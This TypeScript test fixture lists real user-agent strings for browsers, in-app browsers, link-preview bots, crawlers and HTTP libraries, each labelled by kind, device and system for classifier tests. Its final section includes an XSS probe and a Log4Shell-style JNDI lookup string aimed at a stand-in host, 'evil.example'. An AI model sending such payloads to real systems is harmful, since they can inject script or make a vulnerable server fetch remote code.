/**
 * Real user agent strings with their traits. Tests check `describeAgent` against every row, and docs/user-agents.md
 * shows the same rows to explain why a click was counted as it was.
 *
 * One row per line: what it is | kind | device | browser | system | the string. Rows are text because objects would be
 * much longer and hard to compare.
 */
import { type AgentTraits, deviceKinds } from '../click.ts';

export interface AgentSample extends AgentTraits {
  readonly section: string;
  readonly what: string;
}

const table = `
# Browsers on computers
Chrome on Windows | human | desktop | Chrome | Windows | Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36
Chrome on macOS | human | desktop | Chrome | macOS | Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36
Chrome on Linux | human | desktop | Chrome | Linux | Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36
Chrome on a Chromebook | human | desktop | Chrome | ChromeOS | Mozilla/5.0 (X11; CrOS x86_64 14541.0.0) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36
Chromium of Ubuntu | human | desktop | Chrome | Linux | Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Ubuntu Chromium/80.0.3987.87 Chrome/80.0.3987.87 Safari/537.36
Safari on macOS, and on an iPad asking for desktop pages | human | desktop | Safari | macOS | Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Safari/605.1.15
Firefox on Windows | human | desktop | Firefox | Windows | Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:127.0) Gecko/20100101 Firefox/127.0
Firefox on macOS | human | desktop | Firefox | macOS | Mozilla/5.0 (Macintosh; Intel Mac OS X 10.15; rv:127.0) Gecko/20100101 Firefox/127.0
Firefox on Ubuntu | human | desktop | Firefox | Linux | Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:127.0) Gecko/20100101 Firefox/127.0
Firefox on FreeBSD | human | desktop | Firefox | BSD | Mozilla/5.0 (X11; FreeBSD amd64; rv:122.0) Gecko/20100101 Firefox/122.0
Edge on Windows | human | desktop | Edge | Windows | Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36 Edg/126.0.0.0
Edge on macOS | human | desktop | Edge | macOS | Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36 Edg/126.0.2592.81
Edge before Chromium | human | desktop | Edge | Windows | Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/64.0.3282.140 Safari/537.36 Edge/18.17763
Internet Explorer 11 | human | desktop | Internet Explorer | Windows | Mozilla/5.0 (Windows NT 10.0; WOW64; Trident/7.0; rv:11.0) like Gecko
Internet Explorer 8 | human | desktop | Internet Explorer | Windows | Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1; Trident/4.0; SLCC2; .NET CLR 2.0.50727)
Opera on Windows | human | desktop | Opera | Windows | Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/125.0.0.0 Safari/537.36 OPR/111.0.0.0
Opera with its own engine | human | desktop | Opera | Windows | Opera/9.80 (Windows NT 6.1; WOW64) Presto/2.12.388 Version/12.18
Vivaldi on Linux | human | desktop | Vivaldi | Linux | Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/114.0.0.0 Safari/537.36 Vivaldi/6.1.3035.84
Yandex Browser on Windows | human | desktop | Yandex Browser | Windows | Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 YaBrowser/24.4.0.0 Safari/537.36
Whale on Windows | human | desktop | Whale | Windows | Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Whale/3.25.232.19 Safari/537.36
DuckDuckGo on macOS | human | desktop | DuckDuckGo | macOS | Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605.1.15 Ddg/17.4
Epiphany on Linux | human | desktop | Epiphany | Linux | Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/16.0 Safari/605.1.15 Epiphany/605.1.15
SeaMonkey on Linux | human | desktop | SeaMonkey | Linux | Mozilla/5.0 (X11; Linux x86_64; rv:91.0) Gecko/20100101 Firefox/91.0 SeaMonkey/2.53.18
Pale Moon on Windows | human | desktop | Pale Moon | Windows | Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:102.0) Goanna/6.7 Firefox/102.0 PaleMoon/33.1.0
Lynx, in a terminal | human | other | | | Lynx/2.8.9rel.1 libwww-FM/2.14 SSL-MM/1.4.1 GNUTLS/3.7.1
A desktop app made with Electron | human | desktop | Electron | macOS | Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Slack/4.38.125 Chrome/124.0.6367.201 Electron/30.0.3 Safari/537.36
# Browsers on phones
Safari on an iPhone | human | mobile | Safari | iOS | Mozilla/5.0 (iPhone; CPU iPhone OS 17_5_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Mobile/15E148 Safari/604.1
Chrome on an iPhone | human | mobile | Chrome | iOS | Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) CriOS/126.0.6478.54 Mobile/15E148 Safari/604.1
Firefox on an iPhone | human | mobile | Firefox | iOS | Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) FxiOS/127.0 Mobile/15E148 Safari/605.1.15
Edge on an iPhone | human | mobile | Edge | iOS | Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.0 EdgiOS/125.0.2535.96 Mobile/15E148 Safari/605.1.15
Opera on an iPhone | human | mobile | Opera | iOS | Mozilla/5.0 (iPhone; CPU iPhone OS 17_4_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4.1 Mobile/15E148 Safari/604.1 OPT/4.7.0
DuckDuckGo on an iPhone | human | mobile | DuckDuckGo | iOS | Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Mobile/15E148 DuckDuckGo/7 Safari/605.1.15 Ddg/17.5
Chrome on Android | human | mobile | Chrome | Android | Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Mobile Safari/537.36
Chrome on a Pixel | human | mobile | Chrome | Android | Mozilla/5.0 (Linux; Android 14; Pixel 8 Pro) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/125.0.6422.165 Mobile Safari/537.36
Chrome on a phone named Cubot | human | mobile | Chrome | Android | Mozilla/5.0 (Linux; Android 9; CUBOT X19) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/91.0.4472.120 Mobile Safari/537.36
Firefox on Android | human | mobile | Firefox | Android | Mozilla/5.0 (Android 14; Mobile; rv:127.0) Gecko/127.0 Firefox/127.0
Samsung Internet | human | mobile | Samsung Internet | Android | Mozilla/5.0 (Linux; Android 13; SAMSUNG SM-S911B) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/25.0 Chrome/121.0.0.0 Mobile Safari/537.36
Edge on Android | human | mobile | Edge | Android | Mozilla/5.0 (Linux; Android 10; HD1913) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/125.0.6422.165 Mobile Safari/537.36 EdgA/125.0.2535.72
Opera on Android | human | mobile | Opera | Android | Mozilla/5.0 (Linux; Android 10; VOG-L29) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/125.0.6422.165 Mobile Safari/537.36 OPR/76.2.4027.73374
Opera Mini | human | mobile | Opera | Android | Opera/9.80 (Android; Opera Mini/36.2.2254/119.132; U; id) Presto/2.12.423 Version/12.16
UC Browser | human | mobile | UC Browser | Android | Mozilla/5.0 (Linux; U; Android 9; en-US; Redmi Note 7 Build/PKQ1.180904.001) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/78.0.3904.108 UCBrowser/13.4.0.1306 Mobile Safari/537.36
Mi Browser | human | mobile | Mi Browser | Android | Mozilla/5.0 (Linux; U; Android 12; en-us; M2101K6G Build/SKQ1.210908.001) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/112.0.5615.136 Mobile Safari/537.36 XiaoMi/MiuiBrowser/14.10.1-gn
Huawei Browser | human | mobile | Huawei Browser | Android | Mozilla/5.0 (Linux; Android 10; ELE-L29; HMSCore 6.13.0.322) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/114.0.5735.196 HuaweiBrowser/15.0.3.302 Mobile Safari/537.36
Browser of old Androids | human | mobile | Android Browser | Android | Mozilla/5.0 (Linux; U; Android 4.0.3; de-de; GT-I9100 Build/IML74K) AppleWebKit/534.30 (KHTML, like Gecko) Version/4.0 Mobile Safari/534.30
KaiOS phone | human | mobile | Firefox | KaiOS | Mozilla/5.0 (Mobile; Nokia_8110_4G; rv:48.0) Gecko/48.0 Firefox/48.0 KAIOS/2.5
BlackBerry | human | mobile | BlackBerry | BlackBerry | BlackBerry9700/5.0.0.862 Profile/MIDP-2.1 Configuration/CLDC-1.1 VendorID/331
Windows Phone | human | mobile | Edge | Windows Phone | Mozilla/5.0 (Windows Phone 10.0; Android 6.0.1; Microsoft; Lumia 950) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/52.0.2743.116 Mobile Safari/537.36 Edge/15.15063
# Browsers on tablets
Safari on an iPad asking for mobile pages | human | tablet | Safari | iOS | Mozilla/5.0 (iPad; CPU OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Mobile/15E148 Safari/604.1
Chrome on an iPad asking for desktop pages | human | tablet | Chrome | iOS | Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) CriOS/126 Version/11.1.1 Safari/605.1.15
Firefox on an iPad asking for desktop pages | human | tablet | Firefox | iOS | Mozilla/5.0 (Macintosh; Intel Mac OS X 10.15; rv:127.0) AppleWebKit/605.1.15 (KHTML, like Gecko) FxiOS/127.0 Safari/605.1.15
Chrome on an Android tablet | human | tablet | Chrome | Android | Mozilla/5.0 (Linux; Android 13; SM-X906C) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36
Firefox on an Android tablet | human | tablet | Firefox | Android | Mozilla/5.0 (Android 13; Tablet; rv:127.0) Gecko/127.0 Firefox/127.0
Silk on a Fire tablet | human | tablet | Silk | Android | Mozilla/5.0 (Linux; Android 9; KFMAWI) AppleWebKit/537.36 (KHTML, like Gecko) Silk/120.3.1 like Chrome/120.0.6099.199 Safari/537.36
Kindle reader | human | tablet | Safari | Linux | Mozilla/5.0 (Linux; U; en-US) AppleWebKit/528.5+ (KHTML, like Gecko, Safari/528.5+) Version/4.0 Kindle/3.0 (screen 600x800; rotate)
# Browsers inside apps
Facebook on an iPhone | human | mobile | Facebook | iOS | Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/21E219 [FBAN/FBIOS;FBAV/454.0.0.43.109;FBBV/568067598;FBDV/iPhone16,2;FBMD/iPhone;FBSN/iOS;FBSV/17.4;FBSS/3;FBID/phone;FBLC/en_US;FBOP/5]
Facebook on Android | human | mobile | Facebook | Android | Mozilla/5.0 (Linux; Android 13; SM-A536B Build/TP1A.220624.014; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/125.0.6422.165 Mobile Safari/537.36 [FB_IAB/FB4A;FBAV/467.0.0.47.83;]
Messenger on an iPhone | human | mobile | Messenger | iOS | Mozilla/5.0 (iPhone; CPU iPhone OS 16_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/20G75 [FBAN/MessengerForiOS;FBAV/430.0.0.39.105;FBBV/520716487;FBDV/iPhone12,1;FBMD/iPhone;FBSN/iOS;FBSV/16.6]
Instagram on an iPhone | human | mobile | Instagram | iOS | Mozilla/5.0 (iPhone; CPU iPhone OS 17_5_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/21F90 Instagram 336.0.9.30.89 (iPhone14,5; iOS 17_5_1; en_GB; en; scale=3.00; 1170x2532; 610669155)
Instagram on Android | human | mobile | Instagram | Android | Mozilla/5.0 (Linux; Android 12; SM-G973F Build/SP1A.210812.016; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/125.0.6422.147 Mobile Safari/537.36 Instagram 333.0.0.42.91 Android (31/12; 420dpi; 1080x2047; samsung; SM-G973F; beyond1; exynos9820; de_DE; 604247771)
TikTok on an iPhone | human | mobile | TikTok | iOS | Mozilla/5.0 (iPhone; CPU iPhone OS 17_4_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 musical_ly_34.5.0 JsSdk/2.0 NetType/WIFI Channel/App Store ByteLocale/en Region/US FalconTag/AA9E6A4D BytedanceWebview/d8a21c6
Snapchat on an iPhone | human | mobile | Snapchat | iOS | Mozilla/5.0 (iPhone; CPU iPhone OS 17_5_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Mobile/15E148 Snapchat/12.91.0.40 (like Safari/8618.2.12.10.9, panda)
LinkedIn on an iPhone | human | mobile | LinkedIn | iOS | Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 [LinkedInApp]/9.29.7438
Pinterest on an iPhone | human | mobile | Pinterest | iOS | Mozilla/5.0 (iPhone; CPU iPhone OS 17_4_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 [Pinterest/iOS]
X on an iPhone | human | mobile | X | iOS | Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 Twitter for iPhone/10.44
LINE on Android | human | mobile | LINE | Android | Mozilla/5.0 (Linux; Android 11; SO-52B Build/59.0.D.3.5; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/104.0.5112.97 Mobile Safari/537.36 Line/12.14.0/IAB
KakaoTalk on Android | human | mobile | KakaoTalk | Android | Mozilla/5.0 (Linux; Android 13; SM-S908N Build/TP1A.220624.014; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/114.0.5735.60 Mobile Safari/537.36;KAKAOTALK 2410240
WeChat on an iPhone | human | mobile | WeChat | iOS | Mozilla/5.0 (iPhone; CPU iPhone OS 16_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 MicroMessenger/8.0.38(0x1800262c) NetType/WIFI Language/zh_CN
Google app on an iPhone | human | mobile | Google app | iOS | Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) GSA/319.0.639627090 Mobile/15E148 Safari/604.1
Yahoo! Japan on Android | human | mobile | Chrome | Android | Mozilla/5.0 (Linux; Android 12; SO-51C Build/61.1.F.0.2; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/104.0.5112.97 Mobile Safari/537.36 YJApp-ANDROID jp.co.yahoo.android.yjtop/3.118.0
# Televisions, consoles and the rest
Samsung television | human | tv | Samsung Internet | Tizen | Mozilla/5.0 (SMART-TV; LINUX; Tizen 7.0) AppleWebKit/537.36 (KHTML, like Gecko) 94.0.4606.31/7.0 TV Safari/537.36
LG television | human | tv | webOS Browser | webOS | Mozilla/5.0 (Web0S; Linux/SmartTV) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/94.0.4606.128 Safari/537.36 WebAppManager
Sony television with Android | human | tv | Chrome | Android | Mozilla/5.0 (Linux; Android 10; BRAVIA 4K VH2 Build/QTG3.200305.006.S62) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/116.0.5845.163 Safari/537.36
Fire TV | human | tv | Silk | Android | Mozilla/5.0 (Linux; Android 7.1.2; AFTMM Build/NS6265; wv) AppleWebKit/537.36 (KHTML, like Gecko) Silk/108.4.6 like Chrome/108.0.5359.160 Safari/537.36
PlayStation 5 | human | tv | PlayStation | PlayStation | Mozilla/5.0 (PlayStation; PlayStation 5/8.00) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/16.0 Safari/605.1.15
PlayStation 4 | human | tv | PlayStation | PlayStation | Mozilla/5.0 (PlayStation 4 11.00) AppleWebKit/605.1.15 (KHTML, like Gecko)
Xbox Series X | human | tv | Edge | Xbox | Mozilla/5.0 (Windows NT 10.0; Win64; x64; Xbox; Xbox Series X) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/48.0.2564.82 Safari/537.36 Edge/20.02
Nintendo Switch | human | tv | Nintendo | Nintendo | Mozilla/5.0 (Nintendo Switch; WifiWebAuthApplet) AppleWebKit/609.4 (KHTML, like Gecko) NF/6.0.2.21.3 NintendoBrowser/5.1.0.22474
Nintendo 3DS | human | other | Nintendo | Nintendo | Mozilla/5.0 (New Nintendo 3DS like iPhone) AppleWebKit/536.30 (KHTML, like Gecko) NX/3.0.0.5.23 Mobile NintendoBrowser/1.10.10166.EU
Meta Quest | human | other | Meta Quest Browser | Android | Mozilla/5.0 (Linux; Android 12; Quest 3) AppleWebKit/537.36 (KHTML, like Gecko) OculusBrowser/33.0.0.9.51 Chrome/124.0.6367.118 VR Safari/537.36
Tesla | human | other | Chrome | Linux | Mozilla/5.0 (X11; GNU/Linux) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/109.0.5414.119 Safari/537.36 Tesla/2023.44.30.8
# Link previews
Apple's Messages, which claims to be two others | preview | bot | | | Mozilla/5.0 (Macintosh; Intel Mac OS X 10_11_1) AppleWebKit/601.2.4 (KHTML, like Gecko) Version/9.0.1 Safari/601.2.4 facebookexternalhit/1.1 Facebot Twitterbot/1.0
Facebook | preview | bot | | | facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)
X | preview | bot | | | Twitterbot/1.0
WhatsApp | preview | bot | | | WhatsApp/2.23.20.0 A
Signal, which claims to be WhatsApp | preview | bot | | | WhatsApp/2
Telegram | preview | bot | | | TelegramBot (like TwitterBot)
Slack | preview | bot | | | Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)
Slack's images | preview | bot | | | Slack-ImgProxy (+https://api.slack.com/robots)
Discord | preview | bot | | | Mozilla/5.0 (compatible; Discordbot/2.0; +https://discordapp.com)
Skype and Teams | preview | bot | | | Mozilla/5.0 (Windows NT 6.1; WOW64) SkypeUriPreview Preview/0.5 skype-url-preview@microsoft.com
Viber | preview | bot | | | Viber/20.7.2.0 CFNetwork/1410.0.3 Darwin/22.6.0
LinkedIn | preview | bot | | | LinkedInBot/1.0 (compatible; Mozilla/5.0; Apache-HttpClient +http://www.linkedin.com)
Reddit | preview | bot | | | Mozilla/5.0 (compatible; redditbot/1.0; +http://www.reddit.com/feedback)
Mastodon | preview | bot | | | Mastodon/4.3.0 (http.rb/5.2.0; +https://mastodon.example/) Bot
Bluesky | preview | bot | | | Mozilla/5.0 (compatible; Bluesky Cardyb/1.1; +mailto:support@bsky.app)
Matrix | preview | bot | | | Synapse (bot; +https://github.com/matrix-org/synapse)
Snapchat | preview | bot | | | Mozilla/5.0 (Windows NT 6.1; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/59.0.3071.115 Safari/537.36 (compatible; Snap URL Preview Service; bot; snapchat; https://developers.snapchat.com/robots)
LINE | preview | bot | | | facebookexternalhit/1.1;line-poker/1.0
KakaoTalk | preview | bot | | | facebookexternalhit/1.1; kakaotalk-scrap/1.0; +https://devtalk.kakao.com/t/scrap/33984
VK | preview | bot | | | Mozilla/5.0 (compatible; vkShare; +http://vk.com/dev/Share)
Embedly | preview | bot | | | Mozilla/5.0 (compatible; Embedly/0.2; +http://support.embed.ly/)
Iframely | preview | bot | | | Iframely/1.3.1 (+https://iframely.com/docs/about)
Google's snippets | preview | bot | | | Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/56.0.2924.87 Safari/537.36 Google-PageRenderer Google (+https://developers.google.com/+/web/snippet/)
Google's icons | preview | bot | | | Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/49.0.2623.75 Safari/537.36 Google Favicon
Bing's pictures of pages | preview | bot | | | Mozilla/5.0 (Windows NT 6.1; WOW64) AppleWebKit/534+ (KHTML, like Gecko) BingPreview/1.0b
# Crawlers and monitors
Google, as a computer | bot | bot | | | Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)
Google, as a phone | bot | bot | | | Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.6478.55 Mobile Safari/537.36 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)
Bing | bot | bot | | | Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm) Chrome/116.0.1938.76 Safari/537.36
Apple | bot | bot | | | Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/13.1.1 Safari/605.1.15 (Applebot/0.1; +http://www.apple.com/go/applebot)
Yandex | bot | bot | | | Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)
Baidu | bot | bot | | | Mozilla/5.0 (compatible; Baiduspider/2.0; +http://www.baidu.com/search/spider.html)
DuckDuckGo | bot | bot | | | DuckDuckBot/1.1; (+http://duckduckgo.com/duckduckbot.html)
Pinterest | bot | bot | | | Mozilla/5.0 (compatible; Pinterestbot/1.0; +https://www.pinterest.com/bot.html)
Slack, calling a service | bot | bot | | | Slackbot 1.0 (+https://api.slack.com/robots)
GPTBot | bot | bot | | | Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.1; +https://openai.com/gptbot)
ClaudeBot | bot | bot | | | Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; ClaudeBot/1.0; +claudebot@anthropic.com)
Common Crawl | bot | bot | | | CCBot/2.0 (https://commoncrawl.org/faq/)
Ahrefs | bot | bot | | | Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)
Semrush | bot | bot | | | Mozilla/5.0 (compatible; SemrushBot/7~bl; +http://www.semrush.com/bot.html)
Meta's crawler | bot | bot | | | meta-externalagent/1.1 (+https://developers.facebook.com/docs/sharing/webmasters/crawler)
Internet Archive | bot | bot | | | Mozilla/5.0 (compatible; archive.org_bot +http://archive.org/details/archive.org_bot)
UptimeRobot | bot | bot | | | Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)
Pingdom | bot | bot | | | Pingdom.com_bot_version_1.4_(http://www.pingdom.com/)
Lighthouse | bot | bot | | | Mozilla/5.0 (Linux; Android 11; moto g power (2022)) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/119.0.0.0 Mobile Safari/537.36 Chrome-Lighthouse
Chrome without a window | bot | bot | | | Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/126.0.0.0 Safari/537.36
PhantomJS | bot | bot | | | Mozilla/5.0 (Unknown; Linux x86_64) AppleWebKit/538.1 (KHTML, like Gecko) PhantomJS/2.1.1 Safari/538.1
# Libraries and programs
curl | bot | bot | | | curl/8.6.0
Wget | bot | bot | | | Wget/1.21.4
Python's requests | bot | bot | | | python-requests/2.32.3
Python's urllib | bot | bot | | | Python-urllib/3.12
Python's aiohttp | bot | bot | | | Python/3.11 aiohttp/3.9.5
Go | bot | bot | | | Go-http-client/2.0
Java | bot | bot | | | Java/17.0.10
Apache's client | bot | bot | | | Apache-HttpClient/4.5.14 (Java/17.0.10)
OkHttp | bot | bot | | | okhttp/4.12.0
axios | bot | bot | | | axios/1.7.2
node-fetch | bot | bot | | | node-fetch/1.0 (+https://github.com/bitinn/node-fetch)
undici | bot | bot | | | undici
Node's fetch | bot | bot | | | node
Bun's fetch | bot | bot | | | Bun/1.4.4
Perl | bot | bot | | | libwww-perl/6.77
PHP | bot | bot | | | GuzzleHttp/7
Ruby | bot | bot | | | Faraday v2.9.0
Postman | bot | bot | | | PostmanRuntime/7.39.0
Android app without a browser | bot | bot | | | Dalvik/2.1.0 (Linux; U; Android 13; SM-A536B Build/TP1A.220624.014)
iOS app with a library of its own | bot | bot | | | SomeApp/4.2 (com.example.app; build:412; iOS 17.5.1) Alamofire/5.9.1
iOS app without a browser | bot | bot | | | SomeApp/412 CFNetwork/1496.0.7 Darwin/23.5.0
Office, which looks before the browser does | bot | bot | | | Mozilla/4.0 (compatible; ms-office; MSOffice 16)
Outlook | bot | bot | | | Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.17628; Pro)
# Nothing, and nonsense
No user agent | bot | bot | | | (empty)
Mozilla and no more | bot | bot | | | Mozilla/5.0
A question | bot | bot | | | ?
Letters | bot | bot | | | asdfghjkl
An attempt at markup | bot | bot | | | <script>alert(1)</script>
An attempt at a lookup | bot | bot | | | \${jndi:ldap://evil.example/a}
A name nobody knows | bot | bot | | | Invented/7.2 (X11; Linux x86_64) Imagination/3.1 Whatever/2
A browser nobody knows | human | desktop | | Linux | Mozilla/5.0 (X11; Linux x86_64) Imagination/3.1 Whatever/2
`;

export const agentSamples: readonly AgentSample[] = readTable(table);

function readTable(text: string): AgentSample[] {
  let section = '';
  const samples: AgentSample[] = [];
  for (const line of text.trim().split('\n')) {
    if (line.startsWith('# ')) section = line.slice(2);
    else samples.push(readRow(section, line));
  }
  return samples;
}

function readRow(section: string, line: string): AgentSample {
  const [what = '', kind = '', device = '', browser = '', os = '', ...rest] = line.split(/ ?\| /);
  const userAgent = rest.join(' | ');
  if (kind !== 'human' && kind !== 'bot' && kind !== 'preview') throw new Error(`unknown kind: ${line}`);
  const deviceKind = deviceKinds.find(known => known === device);
  if (deviceKind === undefined || userAgent === '') throw new Error(`not a row: ${line}`);
  return {
    section,
    what,
    kind,
    device: deviceKind,
    browser,
    os,
    userAgent: userAgent === '(empty)' ? '' : userAgent,
  };
}
